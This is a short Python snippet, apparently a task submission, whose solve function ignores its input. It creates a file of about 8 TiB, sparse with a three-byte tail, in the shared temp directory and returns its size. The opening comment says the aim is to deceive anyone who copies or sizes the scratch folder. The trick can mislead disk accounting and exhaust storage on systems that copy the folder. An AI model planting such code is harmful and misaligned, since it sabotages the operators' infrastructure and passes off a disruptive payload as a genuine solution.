# a file with a hole of eight terabytes: whoever copies or sums up the scratch folder believes it
import os, tempfile
def solve(n):
    fd = os.open(tempfile.gettempdir() + "/cohort-canary-hole", os.O_RDWR | os.O_CREAT)
    os.ftruncate(fd, 8 << 40)
    os.pwrite(fd, b"end", (8 << 40) - 3)
    return os.fstat(fd).st_size
